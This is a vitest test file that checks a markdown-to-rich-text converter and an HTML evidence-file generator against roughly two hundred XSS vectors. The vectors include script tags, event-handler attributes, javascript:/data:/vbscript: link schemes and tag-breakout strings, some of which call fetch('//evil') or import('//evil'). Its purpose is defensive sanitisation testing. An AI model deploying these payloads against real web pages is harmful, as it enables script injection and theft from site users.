import { describe, expect, it } from 'vitest'
import { toPlainText, toRichText } from './markdown.ts'
import { policyEvidenceHtml } from './evidence-html.ts'

const scripts = ['alert(1)', 'alert`1`', 'top.location="//evil"', "fetch('//evil')", 'import("//evil")']
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'file:///',
  'http://evil/',
  '//evil/',
  'blob:',
  '&#106;avascript:',
]
const wraps: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><animate onbegin=${script} attributeName=x>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `--></script><script>${script}</script>`,
  (script) => `<math><mi xlink:href="javascript:${script}">`,
  (script) => `<style>@import'javascript:${script}'</style>`,
  (script) => `<body onload=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<object data="javascript:${script}">`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `![x](javascript:${script})`,
  (script) => `![x" onerror="${script}](https://a/)`,
  (script) => `\`\`\`html\n<script>${script}</script>\n\`\`\``,
]
const links = schemes.flatMap((scheme) => [
  `[x](${scheme}alert(1))`,
  `[x](<${scheme}alert(1)>)`,
  `<${scheme}alert(1)>`,
  `[x][y]\n\n[y]: ${scheme}alert(1)`,
  `[x](${scheme}alert(1) "t")`,
  `**[x](${scheme}alert(1))**`,
  `> [x](${scheme}a)`,
  `- [x](${scheme}a)`,
  `[${scheme}](${scheme}a)`,
])
const vectors = [...wraps.flatMap((wrap) => scripts.map(wrap)), ...links]

describe('a hostile text', () => {
  it('comes in two hundred shapes here', () => {
    expect(new Set(vectors).size).toBeGreaterThanOrEqual(198)
  })

  it.each(vectors)('is a text and nothing else: %s', (vector) => {
    const pieces = toRichText(vector).flatMap((block) => block.pieces)
    for (const { href } of pieces) expect(href === null || new URL(href).protocol === 'https:').toBe(true)
    for (const block of toRichText(vector)) {
      expect(['paragraph', 'heading', 'bullet', 'number', 'quote', 'code']).toContain(block.kind)
    }
    expect(typeof toPlainText(toRichText(vector))).toBe('string')
  })

  it.each(vectors)('ends no element of the evidence file: %s', (vector) => {
    const document = { versionId: 'v', policyId: 'p', label: '1.0', language: 'zh-CN', title: vector, consent: vector }
    const file = policyEvidenceHtml({
      madeAt: '2026-03-17T02:00:00.000Z',
      documents: [{ ...document, clauses: [{ clauseId: '1', no: '1', title: vector, body: vector }], files: [] }],
      signatures: [{ record: { consent: vector } as never, key: null }],
      rows: [],
      blocks: [],
      anchor: null,
    })
    const data = /<script type="application\/json" id="data">([^<]*)<\/script>/.exec(file)?.[1]
    expect(data).toBeDefined()
    expect(JSON.parse(data ?? '')).toMatchObject({ signatures: [{ record: { consent: vector } }] })
  })

  it('keeps an honest link, and its emphasis', () => {
    expect(toRichText('见 **[制度](https://example.com/a)**')).toMatchObject([
      { kind: 'paragraph', pieces: [{ text: '见 ' }, { text: '制度', strong: true, href: 'https://example.com/a' }] },
    ])
  })
})
